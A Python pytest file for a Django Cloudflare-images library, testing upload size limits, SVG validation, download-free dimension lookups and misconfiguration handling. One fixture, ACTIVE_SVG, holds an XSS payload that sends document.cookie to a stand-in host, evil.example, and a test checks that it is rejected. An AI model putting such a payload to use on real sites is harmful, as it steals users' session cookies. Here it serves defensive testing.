"""Cloudflare's limits as form errors, SVG through ``CloudflareImageField``, dimensions without downloads, and
``select_storage`` fields that import under a broken configuration: in-process, on the local emulator."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django_project import create_tables, setup
from imagegen import encode, jpeg, make, png

setup()

from django import forms  # noqa: E402 - after settings are configured
from django.core.files.uploadedfile import SimpleUploadedFile  # noqa: E402
from django.test import override_settings  # noqa: E402
from django_project.gallery.field_models import Avatar, Poster  # noqa: E402

from cfvariants.django import _conf as conf  # noqa: E402
from cfvariants.django import _dev as dev  # noqa: E402
from cfvariants.django._checks import check_settings  # noqa: E402
from cfvariants.django.storage import dev_storage  # noqa: E402
from cfvariants.local import LocalCloudflare  # noqa: E402

create_tables(Poster, Avatar)

SAFE_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80"><rect width="120" height="80" fill="#c33"/></svg>'
)
ACTIVE_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" onload="alert(1)">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script><rect width="
    b'"120" height="80"/></svg>'
)


@pytest.fixture(autouse=True)
def local(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[LocalCloudflare]:
    for name in ("CF_ACCT_ID", "CF_IMG_TOKEN", "CF_IMG_HASH", "ENV_NAME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)
    with override_settings(CFVARIANTS={"DEV": True, "DATA_DIR": str(tmp_path / "cfimages")}):
        opened = dev.local_cloudflare()
        yield opened
    opened.close()
    conf.reset()


def form_for(model: type[Any]) -> type[forms.ModelForm[Any]]:
    return forms.modelform_factory(model, fields=["image"])


def submit(model: type[Any], filename: str, data: bytes) -> forms.ModelForm[Any]:
    form = form_for(model)(data={}, files={"image": SimpleUploadedFile(filename, data)})
    form.is_valid()
    return form


def stored(local: LocalCloudflare) -> list[str]:
    with local.client() as client:
        return [image.id for image in client.iter_images()]


@pytest.mark.parametrize("model", [Poster, Avatar])
@pytest.mark.parametrize(
    ("filename", "make_data", "words"),
    [
        ("wide.jpg", lambda: jpeg(12_001, 80, "noise"), "12,000 px on a side"),
        ("huge.png", lambda: png(10_001, 10_001, (90, 120, 200)), "megapixels"),
        ("big.png", lambda: encode(make(2200, 2000, "noise"), "PNG"), "10 MB"),
    ],
)
def test_over_the_limits_is_a_form_error_and_nothing_is_stored(
    local: LocalCloudflare, model: type[Any], filename: str, make_data: Any, words: str
) -> None:
    form = submit(model, filename, make_data())
    assert not form.is_valid()
    assert words in " ".join(form.errors["image"]), form.errors
    assert model.objects.count() == 0 and stored(local) == []


def test_svg_goes_through_cloudflare_image_field_unless_it_is_active(local: LocalCloudflare) -> None:
    form = submit(Avatar, "evil.svg", ACTIVE_SVG)
    assert not form.is_valid()
    assert "This SVG contains" in form.errors["image"][0]
    assert stored(local) == []
    form = submit(Avatar, "logo.svg", SAFE_SVG)
    assert form.is_valid(), form.errors
    avatar = form.save()
    assert stored(local) == [avatar.image.name] and avatar.image.name.startswith("faces/logo")


def test_a_stored_file_is_not_read_again_when_the_row_is_validated(local: LocalCloudflare) -> None:
    avatar = submit(Avatar, "me.jpg", jpeg(640, 480, "noise")).save()
    downloads = _count_downloads()
    fresh = Avatar.objects.get(pk=avatar.pk)
    fresh.full_clean()
    assert (fresh.image.width, fresh.image.height) == (640, 480)  # recorded at upload: no download
    again = Poster(image=fresh.image.name)
    again.full_clean()
    assert downloads == []


def test_width_and_height_of_a_plain_image_field_need_no_download(local: LocalCloudflare) -> None:
    poster = submit(Poster, "gig.jpg", jpeg(900, 600, "noise")).save()
    downloads = _count_downloads()
    fresh = Poster.objects.get(pk=poster.pk)
    assert (fresh.image.width, fresh.image.height) == (900, 600)
    assert downloads == []


def _count_downloads() -> list[str]:
    """Record every download of an original through the development storage's client from now on."""
    client = dev_storage().store.client
    seen: list[str] = []
    for method in ("download", "iter_download"):
        original = getattr(client, method)

        def recording(image_id: str, *args: Any, _original: Any = original, **kwargs: Any) -> Any:
            seen.append(image_id)
            return _original(image_id, *args, **kwargs)

        setattr(client, method, recording)
    return seen


def test_a_broken_configuration_does_not_break_model_imports() -> None:
    from django.db import models

    from cfvariants.django.storage import select_storage

    with override_settings(CFVARIANTS={"ACOUNT_HASH": "x"}):
        field = models.ImageField(storage=select_storage)  # what importing models.py does
        (problem,) = check_settings()
        assert problem.id == "cfvariants.E001" and "did you mean 'ACCOUNT_HASH'" in problem.msg
        with pytest.raises(conf.ConfigurationError, match="ACOUNT_HASH"):
            field.storage.url("x.jpg")
